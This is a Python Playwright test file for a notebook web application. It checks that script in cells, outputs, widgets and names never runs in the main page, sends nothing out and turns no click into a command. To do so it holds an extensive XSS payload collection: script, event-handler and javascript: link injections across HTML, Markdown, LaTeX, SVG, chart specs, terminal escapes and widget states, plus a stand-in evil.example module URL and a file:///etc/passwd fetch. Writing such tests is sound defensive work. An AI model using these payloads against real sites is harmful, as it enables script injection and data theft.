"""Whatever people and libraries write into cells, outputs and names: none of it runs in the application's page, nothing
leaves the page, and no click on it does anything."""

import json
import socket
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from typing import Any

import pytest
from playwright.sync_api import Dialog, Page, expect
from playwright.sync_api import Error as PlaywrightError

from apps.accounts.actors import ActorKind
from apps.journal.models import NotebookEvent
from apps.notebooks.commands import create_notebook, import_notebook
from tests.browser.conftest import Tab
from tests.browser.elsewhere import armed, assert_nothing_left, somebody_elses_server
from tests.support.cast import Person, new_person
from tests.support.processes import WebProcess

OpenTab = Callable[[Person], Tab]

# What needs a page of its own: it leads away from it, or takes what follows along.
HTML_ALONE = [
    "<script>location='URL'</script>",
    "<script>top.location='URL'</script>",
    "<script>document.domain='127.0.0.1'</script>",
    "<body onload=JS>",
    "<body background=URL/bg.png>",
    "<meta http-equiv=refresh content='0;url=URL'>",
    "<meta http-equiv=refresh content='0;url=javascript:JS'>",
    "<base href=URL><img src=relative.png>",
    "<form action=URL><input name=a autofocus onfocus=JS></form><script>document.forms[0].submit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=JS>'></noscript>",
    "<template><script>JS</script></template>",
    "<textarea></textarea><script>JS</script>",
    "<title><a title='</title><img src=x onerror=JS>'></title>",
    "<!--><img src=x onerror=JS>-->",
    "<![CDATA[<img src=x onerror=JS>]]>",
    "<xmp><p title='</xmp><img src=x onerror=JS>'></xmp>",
    "<template id=template-cell><script>JS</script></template>",
    "<portal src=URL></portal><frameset onload=JS>",
]
HTML = [
    "<script>JS</script>",
    "<SCRIPT SRC=URL></SCRIPT>",
    "<script src='URL/x.js' type=module></script>",
    "<script>fetch('URL',{mode:'no-cors'})</script>",
    "<script>navigator.sendBeacon('URL','x')</script>",
    "<script>new WebSocket('URL'.replace('http','ws'))</script>",
    "<script>new EventSource('URL')</script>",
    "<script>import('URL/x.js')</script>",
    "<script>new Worker('data:text/javascript,JS')</script>",
    "<script>parent.postMessage({type:'failed',message:'<img src=x onerror=JS>'},'*')</script>",
    "<script>parent.postMessage({type:'height',height:'1;JS'},'*')</script>",
    "<script>open('URL');open('javascript:JS','_top')</script>",
    "<script>for(const e of parent.frames||[])e.__pwn=1</script>",
    "<img src=x onerror='JS'>",
    "<img src=URL/a.png srcset='URL/b.png 2x'>",
    "<img src='x' onerror=eval(atob('d2luZG93Ll9fcHduPTE='))>",
    "<image src=x onerror=JS>",
    "<svg onload='JS'></svg>",
    "<svg><script>JS</script></svg>",
    "<svg><animate onbegin=JS attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:JS'><text y=20>click</text></a></svg>",
    "<svg><use href='URL/a.svg#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>JS</script>'></iframe></foreignObject></svg>",
    "<math><mi xlink:href='javascript:JS'>click</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=JS></style></mglyph></table></mtext></math>",
    "<iframe src='javascript:JS'></iframe>",
    "<iframe srcdoc='<script>JS</script>'></iframe>",
    "<iframe src=URL></iframe>",
    "<object data='javascript:JS'></object>",
    "<object data=URL></object><embed src=URL>",
    "<embed src='data:text/html,<script>JS</script>'>",
    "<link rel=stylesheet href=URL/a.css>",
    "<link rel=prefetch href=URL/prefetch><link rel=preload as=image href=URL/preload>",
    "<style>@import 'URL/b.css';body{background:url(URL/c.png)}</style>",
    "<style>@font-face{font-family:x;src:url(URL/d.woff)}*{font-family:x}</style>",
    "<p style='background:url(URL/e.png)'>styled</p>",
    "<p style='width:expression(JS)'>styled</p>",
    "<form action='javascript:JS'><button>click</button></form>",
    "<button formaction='javascript:JS'>click</button>",
    "<input autofocus onfocus=JS>",
    "<details open ontoggle=JS>x</details>",
    "<video src=URL/v.mp4 onerror=JS></video><audio src=URL/a.mp3></audio>",
    "<video poster=URL/p.png><source onerror=JS></video>",
    "<marquee onstart=JS>x</marquee>",
    "<a href='javascript:JS'>click</a>",
    "<a href='java\tscript:JS'>click</a>",
    "<a href='&#106;avascript:JS'>click</a>",
    "<a href='data:text/html,<script>JS</script>'>click</a>",
    "<a href='vbscript:JS'>click</a>",
    "<a href=URL ping=URL/ping>link</a>",
    "<div id=cells><tandem-cell>x</tandem-cell></div>",
    "<button data-action=delete>click</button><button data-command=run_all>click</button>",
    "<a data-go-to=cells data-line=1 href='#'>click</a>",
    "<form id=snapshot><input name=innerHTML></form>",
    "<tandem-cell data-cell-id=x><button data-action=run>click</button></tandem-cell>",
    "<script id=snapshot type=application/json>{}</script>",
]
MARKDOWN = [
    "[click](javascript:JS)",
    "[click](JaVaScRiPt:JS)",
    "[click](&#x6A;avascript:JS)",
    "[click](java&Tab;script:JS)",
    "[click](data:text/html;base64,PHNjcmlwdD5fX3B3bj0xPC9zY3JpcHQ+)",
    "[click](vbscript:JS)",
    "<javascript:JS>",
    "![x](URL/image.png)",
    "![x](javascript:JS)",
    "![x](data:image/svg+xml,<svg onload='JS'/>)",
    '![x" onerror="JS](x)',
    "[x][y]\n\n[y]: javascript:JS 'x\" onmouseover=\"JS'",
    "[a](x '\" onmouseover=\"JS')",
    "`<img src=x onerror=JS>` <img src=x onerror=JS>",
    '```"><img src=x onerror=JS>\ntext\n```',
    "```html onclick=JS\n<script>JS</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=JS> |",
    "$\\href{javascript:JS}{x}$",
    "$\\href{URL}{x}$ $\\url{javascript:JS}$",
    "$\\htmlData{action=delete,command=run_all,go-to=x}{click}$",
    "$\\htmlId{snapshot}{x}$ $\\htmlClass{cell}{x}$",
    "$\\htmlStyle{background:url(URL/k.png)}{x}$",
    "$\\includegraphics{URL/k.png}$",
    "$\\text{<img src=x onerror=JS>}$",
    "$$\\def\\x{\\x\\x}\\x$$",
    "$\\rule{9999em}{9999em}$ $\\kern9999em x$",
    "$</code><img src=x onerror=JS>$",
    "\\begin{align}<script>JS</script>\\end{align}",
    '```mermaid\ngraph LR; A["<img src=x onerror=JS>"]-->B\n```',
    '```mermaid\ngraph LR; A-->B; click A "javascript:JS" "tip"\n```',
    "```mermaid\ngraph LR; A-->B; click A call JS()\n```",
    '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(URL)}"}}%%\ngraph LR; A-->B\n```',
    "```mermaid\nsequenceDiagram\nA->>B: <script>JS</script>\nlink A: x @ javascript:JS\n```",
    "```mermaid\n</pre><img src=x onerror=JS>\n```",
]
LATEX = [
    r"$\href{javascript:JS}{x}$",
    r"$\htmlData{command=run_all}{click}$",
    r"$\includegraphics{URL/l.png}$",
    r"<img src=x onerror=JS> $x$",
    r"\begin{align}\url{javascript:JS}\end{align}",
]
TEXT = [
    "<img src=x onerror=JS>",
    "</script><script>JS</script>",
    "\x1b]8;;javascript:JS\x07click\x1b]8;;\x07",
    "\x1b]8;;URL\x1b\\click\x1b]8;;\x1b\\",
    '\x1b[38;2;1;2;3"onmouseover=JS mred\x1b[0m',
    "\x1b[31m<svg onload=JS>\x1b[0m",
    "\x1b]0;<script>JS</script>\x07",
    "\u202e<script>JS</script>",
    "javascript:JS",
]
SVG = [
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9' onload='JS'/>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><script>JS</script></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><image href='URL/s.png'/></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><style>@import 'URL/s.css';</style></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><a href='javascript:JS'><text>x</text></a></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><foreignObject width='9' height='9'>"
    "<iframe xmlns='http://www.w3.org/1999/xhtml' src='URL'/></foreignObject></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'><set attributeName='x' onbegin='JS'/></svg>",
    "<?xml-stylesheet href='URL/s.xsl'?><svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'/>",
    "'><script>JS</script><svg",
]
SCRIPTS = [
    "JS",
    "parent.document.body.innerHTML = 'x'; JS",
    "fetch('URL'); JS",
    "} JS; {",
    "element.innerHTML = '<img src=URL/j.png onerror=JS>'",
    "parent.postMessage({type: 'ready'}, '*'); parent.postMessage(null, '*'); parent.postMessage('JS', '*')",
    "c = new RTCPeerConnection(); c.createDataChannel(''); c.createOffer().then((o) => c.setLocalDescription(o));",
    "self.name = 'JS'; history.pushState({}, '', '#x')",
    "document.body.innerHTML = '<iframe srcdoc=\"<script>JS<\\/script>\"></iframe>'",
    "top.frames[0].eval('JS')",
]
VEGA_TYPE, PLOTLY_TYPE, MERMAID_TYPE = (
    "application/vnd.vegalite.v5+json",
    "application/vnd.plotly.v1+json",
    "text/vnd.mermaid",
)


def _vega(**spec: Any) -> dict[str, Any]:
    return {"data": {"values": [{"x": 1}]}, "mark": "point", "encoding": {"x": {"field": "x"}}} | spec


VEGA = [
    _vega(transform=[{"calculate": "event.view.constructor('JS')()", "as": "x"}]),
    _vega(transform=[{"calculate": "toString.constructor('JS')()", "as": "y"}]),
    _vega(transform=[{"filter": "''.sub.call.call({}['constructor'].constructor('JS'))"}]),
    _vega(data={"url": "URL/data.json"}),
    _vega(data={"url": "file:///etc/passwd"}),
    _vega(mark={"type": "image", "url": "URL/v.png"}),
    _vega(mark={"type": "point", "href": "javascript:JS"}),
    _vega(title="<img src=x onerror=JS>"),
    _vega(
        usermeta={"embedOptions": {"defaultStyle": "</style><img src=x onerror=JS>", "loader": {"http": {}}}}
    ),
    _vega(usermeta={"embedOptions": {"patch": "URL/patch.json", "config": "URL/config.json"}}),
]
PLOTLY = [
    {"data": [], "layout": {"title": {"text": "<img src=x onerror=JS><a href='javascript:JS'>click</a>"}}},
    {"data": [{"type": "scatter", "x": [1], "y": [1], "text": ["<script>JS</script>"], "mode": "text"}]},
    {"data": [], "layout": {"images": [{"source": "URL/p.png", "sizex": 1, "sizey": 1}]}},
    {
        "data": [],
        "layout": {"annotations": [{"text": "<a href='javascript:JS'>click</a>", "captureevents": True}]},
    },
    {"data": [{"type": "choropleth", "locations": ["FRA"], "z": [1]}], "config": {"topojsonURL": "URL/"}},
    {"data": [], "config": {"plotlyServerURL": "URL", "showSendToCloud": True, "showLink": True}},
]
MERMAID = [
    'graph LR; A["<img src=x onerror=JS>"]-->B',
    'graph LR; A-->B; click A href "javascript:JS"',
    '%%{init: {"securityLevel": "loose"}}%%\ngraph LR; A["<script>JS</script>"]',
    "graph LR; A-->B; style A fill:url(URL/f.png)",
    'graph LR; A@{ img: "URL/i.png", label: "x" }',
]
CONTROLS = "@jupyter-widgets/controls"
ESM = "export default { render({ model, el }) { %s } }"


def _widget(name: str, module: str = CONTROLS, **state: Any) -> dict[str, Any]:
    names = {"_model_name": f"{name}Model", "_view_name": f"{name}View", "_model_module": module}
    versions = {"_view_module": module, "_model_module_version": "2.0.0", "_view_module_version": "2.0.0"}
    return names | versions | state


def _anywidget(esm: str, **state: Any) -> dict[str, Any]:
    names = {"_model_name": "AnyModel", "_view_name": "AnyView"}
    return _widget("Any", "anywidget", _anywidget_id="x", _esm=esm, **names, **state)


def _output(mime_type: str, content: Any) -> dict[str, Any]:
    return _widget("Output", "@jupyter-widgets/output", outputs=[display(mime_type, content)])


def display(mime_type: str, content: Any, **more: Any) -> dict[str, Any]:
    data = {mime_type: content, "text/plain": "<img src=x onerror=JS>"} | more
    return {"output_type": "display_data", "metadata": {}, "data": data}


WIDGETS = [
    _widget("HTML", value="<img src=x onerror=JS>"),
    _widget("HTML", value="<svg onload=JS></svg><iframe srcdoc='<script>JS</script>'></iframe>"),
    _widget("HTML", value="<a href='javascript:JS'>click</a><form action=URL><button>click</button></form>"),
    _widget(
        "HTML", value="<link rel=stylesheet href=URL/a.css><img src=URL/a.png>", description="<b onclick=JS>x"
    ),
    _widget("HTMLMath", value="$\\href{javascript:JS}{x}$<img src=x onerror=JS>"),
    _widget("Label", value="<script>JS</script>"),
    _widget("Button", description="<img src=x onerror=JS>", tooltip='"onclick=JS', icon='x" onclick="JS'),
    _widget("Text", value='"><script>JS</script>', placeholder="<img src=x onerror=JS>"),
    _widget("Image", format="svg+xml", value=""),
    _widget("Video", format="url", value="URL/v.mp4"),
    _widget(
        "IntSlider",
        value=1,
        readout_format="JS",
        description_allow_html=True,
        description="<img src=x onerror=JS>",
    ),
    _widget("Dropdown", _options_labels=["<img src=x onerror=JS>"], index=0),
    _widget("VBox", children=["IPY_MODEL_nowhere", "IPY_MODEL___proto__", "<img src=x onerror=JS>"]),
    _widget("VBox", "https://evil.example/widgets.js"),
    _widget("VBox", "data:text/javascript,JS"),
    _widget("VBox", "../../frames/output"),
    _widget("VBox", "__proto__"),
    _widget("constructor", "@jupyter-widgets/base"),
    _widget("VBox") | {"_view_module": "URL/x.js"},
    _output("text/html", "<script>JS</script><img src=URL/o.png>"),
    _output("application/javascript", "JS"),
    _output("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload='JS'/>"),
    _output("text/markdown", "[click](javascript:JS)"),
    _anywidget(ESM % "JS"),
    _anywidget(ESM % "top.location = 'URL'; JS"),
    _anywidget(ESM % "open('URL'); parent.document.title = 'x'"),
    _anywidget(ESM % "fetch('URL/f'); import('URL/m.js'); new Worker('URL/w.js')"),
    _anywidget(ESM % "el.innerHTML = '<img src=URL/e.png onerror=JS>'"),
    _anywidget(
        ESM % "parent.postMessage({type:'comm',comm_id:'m0',message_id:'x',data:{method:'custom'}},'*')"
    ),
    _anywidget(
        ESM % "for (const type of ['widgets','show','failed']) parent.postMessage({type,message:'JS'},'*')"
    ),
    _anywidget(ESM % "model.set('value', 1); model.save_changes(); model.send({run: 'JS'})"),
    _anywidget("URL/module.js"),
    _anywidget("import 'URL/i.js'; " + ESM % "JS"),
    _anywidget(
        ESM % "", _css="@import 'URL/c.css'; body { background: url(URL/c.png) } </style><script>JS</script>"
    ),
    {"_tandem_problem": "<img src=x onerror=JS>"},
]
JSONS: list[Any] = [
    {"<img src=x onerror=JS>": "<script>JS</script>"},
    {"__proto__": {"innerHTML": "<img src=x onerror=JS>"}, "constructor": {"prototype": "JS"}},
    ["javascript:JS", "</script><script>JS</script>"],
]
NAMES = [
    "<img src=x onerror=JS>",
    '"><script>JS</script>',
    "'-JS-'",
    "{{ 7*7 }}${JS}",
    "</title><script>JS</script>",
]


@pytest.fixture
def elsewhere() -> Iterator[socket.socket]:
    with somebody_elses_server() as server:
        yield server


@pytest.fixture
def arm(elsewhere: socket.socket) -> Callable[[Any], Any]:
    return partial(armed, server=elsewhere)


def outputs_of(text: str) -> list[dict[str, Any]]:
    """Text in all the forms that an output has for it."""
    return [
        {"output_type": "stream", "name": "stdout", "text": text},
        {"output_type": "stream", "name": "stderr", "text": text},
        {"output_type": "error", "ename": text, "evalue": text, "traceback": []},
        {
            "output_type": "error",
            "ename": "x",
            "evalue": "x",
            "traceback": [f"Cell In[1], line 1{text}", text],
        },
        {"output_type": "display_data", "metadata": {}, "data": {"text/plain": text}},
        {"output_type": "display_data", "metadata": {}, "data": {f"text/{text}": text}},
    ]


def all_outputs() -> list[dict[str, Any]]:
    groups = {
        "text/html": HTML_ALONE + ["".join(HTML[index : index + 8]) for index in range(0, len(HTML), 8)],
        "text/markdown": HTML[::4] + [text for text in MARKDOWN if "```mermaid" not in text],
        "text/latex": LATEX,
        "image/svg+xml": SVG,
        "application/javascript": SCRIPTS,
        "application/json": JSONS,
        VEGA_TYPE: VEGA,
        PLOTLY_TYPE: PLOTLY,
        MERMAID_TYPE: MERMAID,
    }
    rich = [display(mime_type, content) for mime_type, group in groups.items() for content in group]
    forged = [
        display(mime_type, '"><img src=x onerror=JS>')
        for mime_type in ("image/png", "audio/wav", "application/pdf")
    ]
    return rich + forged + [output for text in TEXT for output in outputs_of(text)]


def ipynb_of() -> dict[str, Any]:
    code = {"cell_type": "code", "metadata": {"<img>": "<script>JS</script>"}, "execution_count": 1}
    outputs = all_outputs()
    cells: list[dict[str, Any]] = [
        code | {"source": TEXT[index % len(TEXT)], "outputs": outputs[index : index + 10]}
        for index in range(0, len(outputs), 10)
    ]
    attachments = {"x.svg": {"image/svg+xml": SVG[0]}}
    cells += [
        {"cell_type": "markdown", "metadata": {}, "source": source, "attachments": attachments}
        for source in [*HTML_ALONE, *HTML, *MARKDOWN, "![x](attachment:x.svg)"]
    ]
    return {"nbformat": 4, "nbformat_minor": 4, "metadata": {"title": NAMES[0]}, "cells": cells}


def wait_until_drawn(page: Page) -> None:
    """Every frame has said how high it is, or made way for text; nothing is on its way any more."""
    page.wait_for_function(
        """() => {
            const frames = [...document.querySelectorAll(".output-frame iframe")];
            const prose = [...document.querySelectorAll(".output-markdown")];
            const displays = [...document.querySelectorAll(".output-display")];
            return frames.length > 40 && displays.every((each) => each.firstElementChild)
                && frames.every((frame) => frame.style.height) && prose.every((each) => !each.ariaBusy);
        }""",
        timeout=120_000,
    )


CLICK = "() => document.querySelectorAll('a, button, text, [data-action]').forEach((each) => each.click?.())"
# Every event that an element of users' content could have a handler for, and a click.
PROVOKE = """() => {
    const places = "tandem-outputs *, [data-part=preview] *";
    for (const element of document.querySelectorAll(places)) {
        for (const name of ["mouseover", "pointerover", "focus", "toggle", "load", "error", "animationstart"]) {
            element.dispatchEvent(new Event(name));
        }
        // A link that says where it leads may be followed by those who click it.
        if (!element.closest("a[target=_blank]") && !element.closest(".output-gap")) element.click?.();
    }
}"""
FOUND = """() => {
    const places = [...document.querySelectorAll("body *")];
    const scripts = places.filter((each) => each.tagName === "SCRIPT" && !each.src && each.type !== "application/json");
    const handlers = places.filter((each) => [...each.attributes].some(({ name }) => name.startsWith("on")));
    const links = places.filter((each) => /^\\s*(javascript|data|vbscript):/i.test(each.getAttribute("href") ?? ""));
    return [...scripts, ...handlers, ...links].map((each) => each.outerHTML);
}"""


def in_frames(page: Page, script: str) -> list[Any]:
    """What the script says in each frame of an output, but for those whose content led them astray."""
    answers = []
    for frame in page.frames:
        if not frame.url.endswith(("/frames/output/", "/frames/widget/")):
            continue
        with suppress(PlaywrightError):
            answers.append(frame.evaluate(script))
    return answers


def test_nothing_of_it_runs(
    open_tab: OpenTab,
    server: WebProcess,
    owner: Person,
    elsewhere: socket.socket,
    arm: Callable[[Any], Any],
) -> None:
    ipynb = arm(ipynb_of())
    assert len(all_outputs()) + len(HTML_ALONE) + len(HTML) + len(MARKDOWN) >= 200
    content = json.dumps(ipynb).encode()
    notebook = import_notebook(
        actor=owner.actor, content=content, filename=f"{arm(NAMES[1])}.ipynb".replace("/", "")
    )
    tab = open_tab(owner)
    page = tab.page
    asked: list[str] = []
    page.context.on("requestfinished", lambda request: asked.append(request.url))
    dialogs: list[str] = []

    def note(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", note)
    # So high that every frame is near enough to load.
    page.set_viewport_size({"width": 1280, "height": 30_000})
    page.add_init_script(
        "if (window === top) { window.errors = []; onerror = (message) => errors.push(message); }"
    )
    page.goto(f"/notebooks/{notebook.id}/", wait_until="commit")
    tab.wait_until_connected()
    wait_until_drawn(page)
    # In their frames the scripts did run, so this tests something.
    assert len([ran for ran in in_frames(page, "window.__pwn") if ran]) > 10

    in_frames(page, CLICK)
    page.evaluate(PROVOKE)
    expect(page.locator("tandem-connection")).to_have_attribute("data-status", "connected")

    assert page.evaluate("window.__pwn") is None
    assert page.evaluate("errors") == []
    # Those of the scripts in the frames are theirs.
    tab.errors.clear()
    assert page.evaluate(FOUND) == []
    assert dialogs == []
    assert page.url.partition("#")[0] == f"{server.url}/notebooks/{notebook.id}/"
    assert len(page.context.pages) == 1
    assert_nothing_left(asked, server, elsewhere)
    # Besides the import, there is only what the kernel said if there was a worker to start one.
    events = NotebookEvent.objects.filter(notebook=notebook).exclude(actor_kind=ActorKind.SYSTEM)
    assert events.count() == 1, "a click on users' content was a command"


def test_no_widget_runs(
    open_tab: OpenTab,
    server: WebProcess,
    owner: Person,
    elsewhere: socket.socket,
    arm: Callable[[Any], Any],
) -> None:
    tab = open_tab(owner)
    asked: list[str] = []
    tab.page.context.on("requestfinished", lambda request: asked.append(request.url))
    tab.page.set_viewport_size({"width": 1280, "height": 6_000})
    ran = 0
    # Some at a time: each frame has all of Jupyter's code.
    for start in range(0, len(WIDGETS), 12):
        payloads = WIDGETS[start : start + 12]
        notebook = import_notebook(actor=owner.actor, content=json.dumps(arm(ipynb_with(payloads))).encode())
        tab.page.goto(f"/notebooks/{notebook.id}/", wait_until="commit")
        tab.wait_until_connected()
        # Each is drawn, and says that its kernel is gone, or why it is not.
        expect(tab.page.locator(".output-widget .output-note:not(:empty)")).to_have_count(len(payloads))
        tab.page.wait_for_function(
            """() => [...document.querySelectorAll(".output-widget iframe")].every((frame) => frame.style.height)"""
        )
        ran += len([each for each in in_frames(tab.page, "window.__pwn") if each])
        in_frames(tab.page, CLICK)
        tab.page.evaluate(PROVOKE)
        expect(tab.page.locator("tandem-connection")).to_have_attribute("data-status", "connected")
        assert tab.page.evaluate("window.__pwn") is None
        assert tab.page.evaluate(FOUND) == []
        assert tab.page.url.partition("#")[0] == f"{server.url}/notebooks/{notebook.id}/"
        events = NotebookEvent.objects.filter(notebook=notebook).exclude(actor_kind=ActorKind.SYSTEM)
        assert events.count() == 1, "a click on a widget was a command"
    assert ran > 3
    assert len(tab.page.context.pages) == 1
    tab.errors.clear()  # of the frames' own scripts
    assert_nothing_left(asked, server, elsewhere)


def ipynb_with(widgets: list[dict[str, Any]]) -> dict[str, Any]:
    states = {
        f"m{index}": {"model_name": "x", "model_module": "x", "model_module_version": "x", "state": state}
        for index, state in enumerate(widgets)
    }
    view_type, state_type = (f"application/vnd.jupyter.widget-{part}+json" for part in ("view", "state"))
    outputs = [
        display(view_type, {"model_id": name, "version_major": 2, "version_minor": 0}) for name in states
    ]
    code = {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "", "outputs": outputs}
    held = {state_type: {"version_major": 2, "version_minor": 0, "state": states}}
    return {"nbformat": 4, "nbformat_minor": 4, "metadata": {"widgets": held}, "cells": [code]}


def test_names(
    open_tab: OpenTab, server: WebProcess, owner: Person, elsewhere: socket.socket, arm: Callable[[Any], Any]
) -> None:
    names = [arm(name) for name in NAMES]
    notebooks = [create_notebook(actor=owner.actor, title=name) for name in names]
    person = new_person(f"{names[0][:100]}-x")
    tab, other = open_tab(owner), open_tab(person)
    assert other.page.evaluate("window.__pwn") is None
    asked: list[str] = []
    tab.page.context.on("requestfinished", lambda request: asked.append(request.url))
    for notebook, name in zip(notebooks, names, strict=True):
        tab.open(f"/notebooks/{notebook.id}/")
        expect(tab.page.locator("tandem-title input")).to_have_value(name)
        assert tab.page.evaluate("window.__pwn") is None
    tab.page.goto("/")
    for name in names:
        expect(tab.page.get_by_text(name, exact=True).first).to_be_visible()
    assert tab.page.evaluate("window.__pwn") is None
    assert_nothing_left(asked, server, elsewhere)
